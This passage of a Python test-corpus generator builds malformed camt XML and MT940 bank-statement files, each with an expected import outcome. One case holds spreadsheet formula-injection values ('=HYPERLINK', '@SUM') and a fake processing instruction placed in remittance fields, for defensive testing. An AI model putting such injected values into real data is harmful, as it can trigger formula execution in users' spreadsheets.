        "Latin-1 bytes in a document declared UTF-8 (not recognised)", **refused("unknown layout"))
    put(d + "x13_formula_and_pi.xml",
        camt("<?evil pi?><!-- comment -->" + ntry("X13-1", ustrd="=HYPERLINK(&quot;http://x&quot;)") + ntry("X13-2", ustrd="@SUM(1)")),
        "processing instruction, comment and formula-looking remittance texts", loaded=2)


# --------------------------------------------------------------------------------------------- MT940
def mt(ref: str, lines: str, acct: str = "37040044/0532013000") -> str:
    return f":20:{ref}\n:25:{acct}\n:28C:00001/001\n:60F:C260301EUR1000,00\n{lines}:62F:C260302EUR1000,00\n-\n"


def l61(n: int, amount: str = "100,00", mark: str = "CR", date: str = "2603020302", tail: str = "") -> str:
    return f":61:{date}{mark}{amount}NTRFNONREF//{tail or 'BREF'}{n}\n:86:166?00GUTSCHRIFT?20SVWZ+Rechnung {n}\n"


def mt940_files() -> None:
    d = "mt940/"
    put(d + "m00_baseline.sta", mt("M00", l61(1, tail="M00-") + l61(2, mark="DR", tail="M00-")), "control file", loaded=2)
    put(d + "m01_broken_61.sta", mt("M01", l61(1, tail="M01-") + ":61:garbage line\n:86:x\n"),
        "a :61: line that is not a statement line", quarantined=2, loaded=0,
        reasons=["statement: MT940 block could not be parsed"])
    put(d + "m02_missing_25.sta", ":20:M02\n:28C:1/1\n:60F:C260301EUR1000,00\n" + l61(1, tail="M02-") + ":62F:C260302EUR1000,00\n-\n",
        "statement without :25: account", loaded=0, quarantined=1, reasons=["account: the statement has no :25:"])
    put(d + "m03_impossible_date.sta", mt("M03", l61(1, tail="M03-") + l61(2, date="2602300230", tail="M03-")),
        "a :61: value date of 30 February: the library fails the block, both lines are quarantined",
        loaded=0, quarantined=2, reasons=["statement: MT940 block could not be parsed (day is out of range"])
    put(d + "m04_overflow_amount.sta", mt("M04", l61(1, amount="999999999999999999999999,00", tail="M04-") + l61(2, tail="M04-")),
        "an amount of 24 integer digits (the parser does not recognise the line)", loaded=1, quarantined=1,
        reasons=["statement line not recognised by the MT940 parser"])
    put(d + "m05_truncated.sta", mt("M05", l61(1, tail="M05-") + l61(2, tail="M05-"))[:-40],
        "file cut off in the last :86:/:62F:", loaded=2)
    put(d + "m06_no_61.sta", ":20:M06\n:25:37040044/0532013000\n:28C:1/1\n:60F:C260301EUR1000,00\n:62F:C260301EUR1000,00\n-\n",
        "balances only", **refused("no statement lines (:61:)"))
    put(d + "m07_unknown_tags.sta", mt("M07", ":99:what is this\n" + l61(1, tail="M07-") + ":ZZ:x\n"),
        "unknown tags between the known ones", loaded=1)
    put(d + "m08_nul_and_mixed_endings.sta",
        mt("M08", l61(1, tail="M08-") + l61(2, tail="M08-")).replace("\n", "\r\n", 3).replace(":86:166", ":86:1\x0066", 1),
        "NUL bytes and mixed CRLF / LF line endings", loaded=2)
    put(d + "m09_latin1.sta", mt("M09", l61(1, tail="M09-").replace("Rechnung", "Rechnung f\xfcr M\xfcller")).encode("cp1252"),
        "Windows-1252 umlauts", loaded=1)
    put(d + "m10_huge_86.sta", mt("M10", l61(1, tail="M10-").rstrip("\n") + "?21" + "X" * 200_000 + "\n"),
        "a 200 kB :86: field", loaded=1)
    put(d + "m11_broken_balance.sta",
        ":20:M11\n:25:37040044/0532013000\n:28C:1/1\n:60F:BROKEN\n" + l61(1, tail="M11-") + ":62F:C260302EUR1000,00\n-\n",
        "an opening balance the parser cannot read", loaded=0, quarantined=1,
        reasons=["statement: MT940 block could not be parsed"])
    put(d + "m12_misplaced_86_in_25.sta", ":20:M12\n:25::86:/NAME/x\n:28C:1/1\n:60F:C260301EUR1000,00\n" + l61(1, tail="M12-")
        + ":62F:C260302EUR1000,00\n-\n", "a :25: holding :86: text", loaded=0, quarantined=1, reasons=["account:"])
    put(d + "m13_binary.sta", b":20:M13\n" + bytes(range(256)) * 4, "binary after a tag", **refused("no statement lines"))


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    base_fx()
    delimited()
    explorers()
    own_csv()
    compounds()
    camt_files()
    mt940_files()
    header = ("# Bad-input corpus: file -> expected outcome. Generated by make_corpus.py; checked by test_corpus.py.\n"
              "# expect: refused -> the file is refused with a one-line message containing `message`.\n"
              "# expect: loaded  -> exact loaded / quarantined / duplicate counts; each of `reasons` is contained in\n"
              "#                    some quarantine reason of the file.\n")
    MANIFEST.write_text(header + yaml.safe_dump({"files": entries}, sort_keys=True, allow_unicode=True, width=120),
                        encoding="utf-8")
    counts: dict[str, int] = {}
    for e in entries.values():
        counts[e["reader"]] = counts.get(e["reader"], 0) + 1
    print(f"{len(entries)} corpus files: {counts}")


if __name__ == "__main__":
    main()
